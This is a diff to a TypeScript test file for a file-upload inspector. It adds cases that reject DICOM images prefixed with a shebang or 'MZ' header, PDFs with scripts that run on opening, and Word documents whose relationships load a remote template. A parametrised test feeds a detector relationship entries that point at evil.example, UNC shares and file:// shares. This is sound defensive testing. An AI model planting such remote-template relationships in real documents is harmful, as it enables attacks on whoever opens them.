@@ -1,9 +1,20 @@
 import { createHash } from 'node:crypto';
 import { afterAll, describe, expect, test } from 'vitest';
 import type { Source } from '../storage.ts';
+import { createCanvas } from '@napi-rs/canvas';
+import { fetchesOnOpening } from './docx.ts';
 import { Inspector, TOO_LONG, TOO_MUCH } from './inspector.ts';
 import { InTurn } from './in-turn.ts';
-import { sampleBomb, sampleDicom, sampleDocx, samplePdf, samplePng, sampleTiff, sampleZip } from './samples.ts';
+import {
+  sampleBomb,
+  sampleDicom,
+  sampleDocx,
+  samplePageScript,
+  samplePdf,
+  samplePng,
+  sampleTiff,
+  sampleZip,
+} from './samples.ts';
 import { DAMAGED, PASSWORD } from './types.ts';
 
 const inspector = new Inspector();
@@ -13,6 +24,24 @@ const sourceOf = (whole: Buffer): Source => ({
   size: whole.length,
   bytes: async (start, length) => whole.subarray(start, start + length),
 });
+
+const template = (target: string, type = 'attachedTemplate'): string =>
+  `<Relationships><Relationship Id="r" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="${target}" TargetMode="External"/></Relationships>`;
+const jpeg = (): Buffer => createCanvas(40, 30).toBuffer('image/jpeg');
+/** Bytes that begin as a JPEG does, with a frame and a scan, and mean nothing. */
+const nonsenseJpeg = (): Buffer =>
+  Buffer.from(
+    'ffd8ffe000104a46494600010100000100010000ffc0000b080010001001011100ffda0008010100003f00aabbccddffd9',
+    'hex',
+  );
+function damagedRelations(): Buffer {
+  const whole = sampleDocx({ 'word/_rels/settings.xml.rels': template('https://x.example') });
+  return Buffer.from(whole).fill(
+    0xff,
+    whole.indexOf('settings.xml.rels') + 17,
+    whole.indexOf('settings.xml.rels') + 37,
+  );
+}
 
 async function inspected(name: string, content: Buffer | string, by = inspector) {
   const result = await by.inspect({ name }, sourceOf(Buffer.from(content)));
@@ -35,6 +64,7 @@ describe('a file that is what it says', () => {
     ],
     ['mri.zip', () => sampleZip({ 'IM0001.dcm': sampleDicom() }), 'application/zip', null, null],
     ['IM0001.dcm', () => sampleDicom(), 'application/dicom', null, null],
+    ['photo.jpg', () => jpeg(), 'image/jpeg', 1, null],
   ])('%s', async (name, make, content_type, pages, has_text) => {
     const result = await inspected(name, await make());
     expect(result).toMatchObject({ failure: null, content_type, pages, has_text, right: true });
@@ -95,6 +125,33 @@ describe('a file that is refused says why and what to do', () => {
       () => sampleZip({ a: 'b' }, { claims: 4_000_000_000 }),
       'This archive unpacks to far more than it should. Upload the files themselves.',
     ],
+    [
+      'a script before an image',
+      'IM0001.dcm',
+      () => sampleDicom('#!/bin/sh\n'),
+      'The first bytes of this DICOM image hold something else, which could run as a program. Export it again, then upload that.',
+    ],
+    [
+      'a program before an image',
+      'IM0001.dcm',
+      () => sampleDicom('MZ'),
+      'This is not a DICOM image, although its name says so.',
+    ],
+    [
+      'a page that runs a script',
+      'chart.pdf',
+      () => samplePageScript(),
+      'Contains a script that runs when it is opened. Print it to a new PDF, then upload that.',
+    ],
+    [
+      'a template from elsewhere',
+      'letter.docx',
+      () => sampleDocx({ 'word/_rels/settings.xml.rels': template('https://evil.example/t.dotm') }),
+      'Loads something from elsewhere when it is opened, such as a template. Save it as a PDF, then upload that.',
+    ],
+    ['relations that do not unpack', 'letter.docx', () => damagedRelations(), DAMAGED],
+    ['a picture of nothing', 'photo.jpg', () => jpeg().subarray(0, 150), DAMAGED],
+    ['a frame without tables', 'photo.jpg', () => nonsenseJpeg(), DAMAGED],
     ['half an archive', 'mri.zip', () => sampleZip({ a: 'b'.repeat(500) }).subarray(0, 40), DAMAGED],
     ['a TIFF in a circle', 'fax.tif', () => sampleTiff(3, true), DAMAGED],
     ['half a TIFF', 'fax.tif', () => sampleTiff(3).subarray(0, 30), DAMAGED],
@@ -142,4 +199,18 @@ test('who sends bombs does not keep the places from others', async () => {
   expect(over).toEqual(['dana']);
   own.close();
   await bombs;
+});
+
+test.each<[boolean, string]>([
+  [true, template('https://evil.example/t.dotm')],
+  [true, template('\\\\server\\share\\t.dotx')],
+  [true, template('file://server/share/t.dotx')],
+  [true, template('https://evil.example/x', 'oleObject')],
+  [true, template('https://evil.example/x', 'frame').replaceAll('"', "'")],
+  [false, template('file:///C:\\Users\\Dana\\Normal.dotm')],
+  [false, template('Normal.dotm')],
+  [false, template('https://journal.example/article', 'hyperlink')],
+  [false, template('media/image1.png', 'oleObject').replace(' TargetMode="External"', '')],
+])('%s: fetched on opening: %s', (expected, relations) => {
+  expect(fetchesOnOpening(relations)).toBe(expected);
 });
